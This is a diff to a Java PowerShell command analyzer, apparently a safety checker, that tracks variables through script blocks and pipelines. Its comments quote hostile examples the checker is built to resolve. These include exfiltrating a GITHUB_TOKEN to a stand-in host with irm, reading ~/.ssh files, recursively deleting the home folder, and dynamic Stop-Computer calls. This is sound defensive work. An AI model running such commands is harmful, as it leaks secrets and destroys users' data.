@@ -108,7 +108,9 @@ final class PsBuilder {
             "reverse", "getbytes", "getstring", "tobase64string", "frombase64string", "matches",
             "match", "ismatch", "escape", "unescape", "normalize", "insert", "remove", "clone",
             "exists", "getenvironmentvariable", "getfolderpath", "toint32", "todatetime",
-            "getvalue", "getnetworkcredential", "getproperties", "getmethods", "getmembers");
+            "getvalue", "getnetworkcredential", "getproperties", "getmethods", "getmembers",
+            // TimeSpan's factories (`[timespan]::FromSeconds(5)`) only build a value
+            "fromdays", "fromhours", "fromminutes", "fromseconds", "frommilliseconds");
 
     private static final Pattern NUMBER = Pattern.compile(
             "(?i)^(?:0x[0-9a-f]+|0b[01]+|(?:\\d+(?:\\.\\d*)?|\\.\\d+)(?:e[+-]?\\d+)?)"
@@ -252,6 +254,23 @@ final class PsBuilder {
     }
 
     /** True when {@code ctx} is the text's own top level (no block, branch or payload). */
+    /**
+     * The body of the script block walked now when it runs once, where it stands, in order: {@code
+     * & { … }} or {@code . { … }} as a whole statement read in order itself; null otherwise.
+     */
+    private Ctx runAtOnce;
+
+    /**
+     * True when the statements walked in {@code ctx} run in order, once, as the top level does, so
+     * that what a variable holds is read from the assignments walked before ({@link PsValues}): the
+     * top level, or the body of a block run at once ({@link #runAtOnce}). WHY: {@code & { $d = (1,
+     * (2, 7200))[1][1]; Start-Sleep $d }} is read like its body; inside a block the sleep was
+     * taken as a value from outside.
+     */
+    private boolean inOrder(Ctx ctx) {
+        return ctx.prov() == Provenance.TOP || ctx == runAtOnce;
+    }
+
     static boolean topLevel(Ctx ctx) {
         return ctx.parent() < 0 && ctx.depth() == 0 && ctx.prov() == Provenance.TOP;
     }
@@ -372,7 +391,7 @@ final class PsBuilder {
         if (depth >= HELD_PIPELINE_DEPTH || at < 0) {
             return stages;
         }
-        PsValues.Known held = values.get(head.get(at).raw(), ctx.prov() == Provenance.TOP);
+        PsValues.Known held = values.get(head.get(at).raw(), inOrder(ctx));
         if (held == null || held.stages() == null || !held.sound()) {
             return stages;
         }
@@ -459,7 +478,7 @@ final class PsBuilder {
         if (ITEM_VARIABLES.contains(loopName(raw)) || loopName(raw).startsWith("env:")) {
             return false;
         }
-        PsValues.Known held = values.get(raw, ctx.prov() == Provenance.TOP);
+        PsValues.Known held = values.get(raw, inOrder(ctx));
         return held == null || held.string() == null;
     }
 
@@ -503,14 +522,14 @@ final class PsBuilder {
         if (!command && !piped) {
             return;
         }
-        PsValues.Known now = values.get(first.get(0).raw(), ctx.prov() == Provenance.TOP);
+        PsValues.Known now = values.get(first.get(0).raw(), inOrder(ctx));
         if (now != null && (now.string() != null || now.command() != null)) {
             return;
         }
         List<List<Part>> held = new ArrayList<>();
         held.add(List.copyOf(first.subList(2, first.size())));
         held.addAll(stages.subList(1, stages.size()));
-        values.assigned(first.get(0).raw(), new PsValues.Value(null, null, true, List.copyOf(held), null), ctx.prov() == Provenance.TOP);
+        values.assigned(first.get(0).raw(), new PsValues.Value(null, null, true, List.copyOf(held), null), inOrder(ctx));
     }
 
     /**
@@ -525,7 +544,7 @@ final class PsBuilder {
             if (name != null) {
                 // `7200 | Tee-Object -Variable d`: d holds the value a one-expression first stage computes;
                 // a first-stage `Tee-Object -InputObject 7200 -Variable d` the value it is given (rt33b)
-                boolean top = ctx.prov() == Provenance.TOP;
+                boolean top = inOrder(ctx);
                 Part input = s == 0 ? teeInputObject(stages.get(0)) : null;
                 values.assigned("$" + name, new PsValues.Value(null, null, true, List.copyOf(stages.subList(0, Math.max(s, 1))), null),
                         top, "=", s == 1 ? held(spaced(stages.get(0)), top) : input != null ? held(spaced(List.of(input)), top) : null);
@@ -535,7 +554,7 @@ final class PsBuilder {
                 // `gci ~/.ssh -OutVariable o | Out-Null; $o | Get-Content`: $o holds the stage's own objects
                 List<List<Part>> held = new ArrayList<>(stages.subList(0, s));
                 held.add(withoutOutVariable(stages.get(s)));
-                values.assigned("$" + out, new PsValues.Value(null, null, true, List.copyOf(held), null), ctx.prov() == Provenance.TOP);
+                values.assigned("$" + out, new PsValues.Value(null, null, true, List.copyOf(held), null), inOrder(ctx));
             }
         }
     }
@@ -758,7 +777,7 @@ final class PsBuilder {
             keyword(PsText.bare(first.raw()).toLowerCase(Locale.ROOT), parts, ctx, pos);
         } else if (first.kind() == Kind.WORD && commandLike(first.raw())) {
             if (pos.stages() == 1) {
-                values.setVariable(spaced(parts), ctx.prov() == Provenance.TOP); // `sv d 7200`
+                values.setVariable(spaced(parts), inOrder(ctx)); // `sv d 7200`
             }
             command(splitName(arguments(parts)), ctx, pos);
         } else {
@@ -819,7 +838,7 @@ final class PsBuilder {
         String folded = name.size() == 1 && name.get(0).kind() == Kind.PAREN ? concatenation(name.get(0).raw()) : null;
         boolean lookedUp = false;
         PsValues.Known held = name.size() == 1 && name.get(0).kind() == Kind.VARIABLE
-                ? values.get(name.get(0).raw(), ctx.prov() == Provenance.TOP) : null;
+                ? values.get(name.get(0).raw(), inOrder(ctx)) : null;
         if (held != null && held.command() != null) {
             // `$c = gcm *ke-Ex*; & $c …`, `$s = 'Stop-'+'Computer'; & $s`: the command the variable holds;
             // dynamic still unless a literal name assigned once, in sequence, before this call
@@ -868,12 +887,24 @@ final class PsBuilder {
             java.util.Map<String, List<Word>> bound = bindings(name.get(0), args.subList(1, args.size()), rest);
             Ctx inner = new Ctx(ctx.parent(), ctx.depth() + 1, p, ctx.wrappers());
             Part block = name.get(0);
-            if (op.equals("&")) {
-                // `& { $d = 7200 }` assigns the block's own $d: the caller's keeps its value
-                values.inChildScope(() -> walkBound(block, bound, inner));
-            } else {
-                // `. { $d *= 60 }` runs once in this scope
-                values.inBlock(flatBlock(block) ? 1 : 0, () -> walkBound(block, bound, inner));
+            // a whole statement read in order runs its block once, at once: the body is read in order too
+            boolean once = inOrder(ctx) && pos.stages() == 1;
+            Ctx outerOnce = runAtOnce;
+            runAtOnce = once ? inner : runAtOnce;
+            try {
+                if (op.equals("&") && once) {
+                    // `& { $d = 7200; Start-Sleep $d }`: the block's own variables, read in order, over a
+                    // copy of the caller's; the caller's keep their values
+                    values.inChildFrame(() -> walkBound(block, bound, inner));
+                } else if (op.equals("&")) {
+                    // `& { $d = 7200 }` assigns the block's own $d: the caller's keeps its value
+                    values.inChildScope(() -> walkBound(block, bound, inner));
+                } else {
+                    // `. { $d *= 60 }` runs once in this scope
+                    values.inBlock(flatBlock(block) ? 1 : 0, () -> walkBound(block, bound, inner));
+                }
+            } finally {
+                runAtOnce = outerOnce;
             }
             for (int k = 1; k < args.size(); k++) {
                 word(args.get(k), rest, false, Provenance.COMPOUND);
@@ -972,7 +1003,7 @@ final class PsBuilder {
      * null for others.
      */
     private Word heldItem(Part variable, Ctx ctx) {
-        PsValues.Known held = values.get(variable.raw(), ctx.prov() == Provenance.TOP);
+        PsValues.Known held = values.get(variable.raw(), inOrder(ctx));
         if (held != null && held.sound() && held.string() != null) {
             return new Word(held.string(), variable.raw(), true, Set.of(WordFeature.SINGLE_QUOTED, WordFeature.RESOLVED_VARIABLE));
         }
@@ -1105,7 +1136,7 @@ final class PsBuilder {
         if (!m.matches()) {
             return null;
         }
-        PsValues.Known k = values.get(m.group(1) != null ? m.group(1) : m.group(2), ctx.prov() == Provenance.TOP);
+        PsValues.Known k = values.get(m.group(1) != null ? m.group(1) : m.group(2), inOrder(ctx));
         if (k == null || k.items() == null) {
             return null;
         }
@@ -1353,7 +1384,9 @@ final class PsBuilder {
                 }
                 continue;
             }
-            if (arg.size() != 1 || !Set.of(Kind.SQ, Kind.DQ, Kind.HERE_SQ, Kind.HERE_DQ, Kind.VARIABLE).contains(arg.get(0).kind())) {
+            // (`7200 | % { Start-Sleep $_ }`: a plain number literal sends itself)
+            if (arg.size() != 1 || !Set.of(Kind.SQ, Kind.DQ, Kind.HERE_SQ, Kind.HERE_DQ, Kind.VARIABLE).contains(arg.get(0).kind())
+                    && !(arg.get(0).kind() == Kind.WORD && PIPED_NUMBER.matcher(arg.get(0).raw()).matches())) {
                 return null;
             }
             values.add(arg);
@@ -1470,6 +1503,8 @@ final class PsBuilder {
         if (piped != null && "ForEach-Object".equals(canonical)
                 && piped.stream().allMatch(v -> v.get(0).kind() == Kind.SQ
                         || v.get(0).kind() == Kind.DQ && v.get(0).raw().indexOf('$') < 0 && v.get(0).raw().indexOf('`') < 0
+                        // `7200 | % { Start-Sleep $_ }`: a plain number piped is $_ as typed
+                        || v.size() == 1 && v.get(0).kind() == Kind.WORD && PIPED_NUMBER.matcher(v.get(0).raw()).matches()
                         || v.get(0).kind() == Kind.VARIABLE && heldItem(v.get(0), ctx) != null)) {
             // (`$HOME | % { … }`, `$env:USERPROFILE | % { … }`: $_ is that folder, as written in its place)
             forEachItems = new ArrayList<>();
@@ -1566,7 +1601,7 @@ final class PsBuilder {
                             break;
                         }
                         PsValues.Known held = value.size() == 1 && value.get(0).kind() == Kind.VARIABLE
-                                ? values.get(value.get(0).raw(), ctx.prov() == Provenance.TOP) : null;
+                                ? values.get(value.get(0).raw(), inOrder(ctx)) : null;
                         if (held != null && held.sound() && held.path() != null) {
                             // `$p = $HOME; Remove-Item $p -Recurse`: the folder as written from its variable
                             argv.add(new Word(held.path(), value.get(0).raw(), false, Set.of(WordFeature.PARAMETER)));
@@ -1580,8 +1615,13 @@ final class PsBuilder {
                                     Set.of(WordFeature.SINGLE_QUOTED, WordFeature.RESOLVED_VARIABLE)));
                             break;
                         }
-                        double inline = value.size() == 1 && value.get(0).kind() == Kind.PAREN && "Start-Sleep".equals(canonical)
-                                ? number(value.get(0).raw(), ctx.prov() == Provenance.TOP) : Double.NaN;
+                        // (`$a[1]`, `$h.a`, `$h['a']`: an item of the literal the variable holds, PsValues#source)
+                        List<Part> parts0 = value;
+                        boolean item = parts0.size() > 1 && parts0.get(0).kind() == Kind.VARIABLE
+                                && parts0.stream().skip(1).allMatch(p -> p.kind() == Kind.WORD || p.kind() == Kind.SQ)
+                                && java.util.stream.IntStream.range(1, parts0.size()).allMatch(i -> adjacent(parts0.get(i - 1), parts0.get(i)));
+                        double inline = (value.size() == 1 && value.get(0).kind() == Kind.PAREN || item) && "Start-Sleep".equals(canonical)
+                                ? number(item ? source(value) : value.get(0).raw(), inOrder(ctx)) : Double.NaN;
                         if (!Double.isNaN(inline)) {
                             // `Start-Sleep ((1, (2, 5))[1][1])`, `-Milliseconds ($d * 1000)`: the duration the
                             // one expression reader computes, as typed (read long or short alike; an
@@ -1594,7 +1634,7 @@ final class PsBuilder {
                         // $r.Value = 7200` leaves the `1` behind, which must not stand for the sleep)
                         if (value.size() == 1
                                 && value.get(0).kind() == Kind.VARIABLE && "Start-Sleep".equals(canonical)
-                                && values.lost(value.get(0).raw(), ctx.prov() == Provenance.TOP)) {
+                                && values.lost(value.get(0).raw(), inOrder(ctx))) {
                             // `$d = 1; $d = (1, 7200)[$i]; Start-Sleep $d`: a duration this text computed
                             // in a way not read here is an expression, as `Start-Sleep ((1, 7200)[$i])`
                             // is (fail closed), not a value from outside such as `Start-Sleep $delay`
@@ -1606,7 +1646,7 @@ final class PsBuilder {
                                 ? hashes.get(value.get(0).raw().substring(1).toLowerCase(Locale.ROOT)) : null;
                         if (splatted == null && value.size() == 1 && value.get(0).kind() == Kind.SPLAT) {
                             // `$a = '-Recurse','-Force'; Remove-Item ~ @a`: the array's strings are the arguments
-                            PsValues.Known array = values.get("$" + value.get(0).raw().substring(1), ctx.prov() == Provenance.TOP);
+                            PsValues.Known array = values.get("$" + value.get(0).raw().substring(1), inOrder(ctx));
                             splatted = array == null ? null : array.items() != null
                                     ? array.items().stream().map(Word::literal).toList()
                                     : array.string() != null && array.command() != null && array.string().equals(array.command())
@@ -1645,7 +1685,15 @@ final class PsBuilder {
                         if (b.splat()) {
                             reasons.add(OpaqueReason.DYNAMIC_ARGUMENT);
                         }
-                        argv.add(b.word());
+                        Word w = b.word();
+                        String carried = w.literal() ? w.text() : values.carriedText(w.text());
+                        if (!carried.equals(w.text())) {
+                            // `$u = 'https://x.example/?t=' + $env:GITHUB_TOKEN; irm $u`, `$i = $PID;
+                            // Stop-Process $i`: the word read with what the variable carries, as typed
+                            // inline (dynamic still)
+                            w = new Word(carried, w.raw(), false, w.features());
+                        }
+                        argv.add(w);
                     }
                 }
             }
@@ -1993,6 +2041,8 @@ final class PsBuilder {
     private static final Pattern STEP = Pattern.compile(
             "(?i)(\\+\\+|--)\\s*(\\$\\{?[A-Za-z_][A-Za-z0-9_]*\\}?)|(\\$\\{?[A-Za-z_][A-Za-z0-9_]*\\}?)\\s*(\\+\\+|--)");
 
+    /** A decimal number literal piped on its own ({@code 7200 | % { … }}); other forms are not read. */
+    private static final Pattern PIPED_NUMBER = Pattern.compile("^[0-9]{1,12}(?:\\.[0-9]{1,6})?$");
     /** Casts of a typed assignment whose variable then holds the number ({@code [int]$d = 7200}). */
     private static final Pattern NUMBER_CAST = Pattern.compile(
             "(?i)\\[(?:int|int32|int64|long|double|decimal|single|uint32|uint64)\\]");
@@ -2004,7 +2054,7 @@ final class PsBuilder {
     private double number(String rhs, boolean top) {
         // the one expression reader, each variable read as the number it stands for (a string held
         // whose `*` is not followed, `'33' * 600`, still reads as the number it converts to)
-        PsHeldValue v = PsHeldValue.evaluate(rhs, name -> PsHeldValue.ofNumber(values.number("$" + name, top)));
+        PsHeldValue v = PsHeldValue.evaluate(rhs, name -> PsHeldValue.ofNumber(values.number("$" + name, top)), name -> values.source(name, top));
         return v == null ? Double.NaN : v.asNumber();
     }
 
@@ -2019,7 +2069,7 @@ final class PsBuilder {
 
     /** {@link #held(String, boolean)} of the right-hand side of an assignment of {@code target}. */
     private PsHeldValue held(String rhs, boolean top, String target) {
-        PsHeldValue v = PsHeldValue.evaluate(rhs, name -> values.held("$" + name, top, target));
+        PsHeldValue v = PsHeldValue.evaluate(rhs, name -> values.held("$" + name, top, target), name -> values.source(name, top));
         return v != null ? v : PsHeldValue.ofNumber(number(rhs, top));
     }
 
@@ -2088,7 +2138,7 @@ final class PsBuilder {
             return null;
         }
         if (p.kind() == Kind.VARIABLE) {
-            PsValues.Known k = values.get(p.raw(), ctx.prov() == Provenance.TOP);
+            PsValues.Known k = values.get(p.raw(), inOrder(ctx));
             return k == null ? null : k.string();
         }
         return null;
@@ -2111,13 +2161,13 @@ final class PsBuilder {
         if (assign && target == null && eq < 0 && step.matches()) {
             // `$d++`, `--$d`: d plus or minus one, as `$d += 1` (PsValues counts these assignments)
             String sign = step.group(1) != null ? step.group(1) : step.group(4);
-            values.assigned(step.group(1) != null ? step.group(2) : step.group(3), null, ctx.prov() == Provenance.TOP,
+            values.assigned(step.group(1) != null ? step.group(2) : step.group(3), null, inOrder(ctx),
                     sign.equals("++") ? "+=" : "-=", PsHeldValue.ofNumber(1));
         }
         String variableObject = assign && target == null && eq > 0 ? values.variableObjectOf(spaced(parts.subList(0, eq + 1))) : null;
         if (variableObject != null) {
             // `(Get-Variable d).Value = 7200` assigns d as `$d = 7200` does
-            boolean top = ctx.prov() == Provenance.TOP;
+            boolean top = inOrder(ctx);
             values.assigned(variableObject, null, top, parts.get(eq).raw(), held(spaced(parts.subList(eq + 1, parts.size())), top));
         }
         if (assign && target == null && eq > 0 && (parts.get(0).kind() == Kind.VARIABLE
@@ -2147,7 +2197,7 @@ final class PsBuilder {
                 }
             }
             defaultParameterValues(lhs, rhs);
-            boolean top = ctx.prov() == Provenance.TOP;
+            boolean top = inOrder(ctx);
             String op = parts.get(eq).raw();
             if (lhs.size() == 1 && lhs.get(0).kind() == Kind.VARIABLE) {
                 PsValues.Value held = op.equals("=") ? heldValue(rhs, ctx) : null;
@@ -2161,6 +2211,7 @@ final class PsBuilder {
                     choices = heldChoices(spaced(rhs), top, lhs.get(0).raw());
                 }
                 values.assigned(lhs.get(0).raw(), held, top, op, choices);
+                values.carry(lhs.get(0).raw(), op, spaced(rhs), top);
             } else {
                 List<Part> names = lhs.stream().filter(p -> p.kind() == Kind.VARIABLE).toList();
                 // `$d, $e = 7200, 1`: one number per name when there are no more values than names
@@ -2291,7 +2342,7 @@ final class PsBuilder {
         if (payload != null) {
             String source = payload.raw().substring(1, payload.raw().length() - 1);
             PsValues.Known held = Regex.matches(source.strip(), "\\$\\{?[A-Za-z_][A-Za-z0-9_]*\\}?")
-                    ? values.get(source.strip(), ctx.prov() == Provenance.TOP) : null;
+                    ? values.get(source.strip(), inOrder(ctx)) : null;
             if (LITERAL_STRING.matcher(source).matches()) {
                 String s = source.strip();
                 String inner = s.startsWith("'") ? PsText.verbatim(s) : s.substring(1, s.length() - 1);
@@ -2474,7 +2525,7 @@ final class PsBuilder {
         Matcher v = PLAIN_VARIABLE.matcher(source(parts));
         StringBuilder s = new StringBuilder();
         while (v.find()) {
-            PsValues.Known k = values.get(v.group(), ctx.prov() == Provenance.TOP);
+            PsValues.Known k = values.get(v.group(), inOrder(ctx));
             String held = k == null ? null : k.string();
             v.appendReplacement(s, Matcher.quoteReplacement(held != null ? "'" + held.replace("'", "''") + "'" : v.group()));
         }
@@ -2701,7 +2752,7 @@ final class PsBuilder {
         if (ITEM_VARIABLES.contains(name) || name.startsWith("env:")) {
             return null;
         }
-        PsValues.Known held = values.get(source.get(0).raw(), ctx.prov() == Provenance.TOP || headerAtTop);
+        PsValues.Known held = values.get(source.get(0).raw(), inOrder(ctx) || headerAtTop);
         if (held != null && held.string() != null) {
             return null;
         }
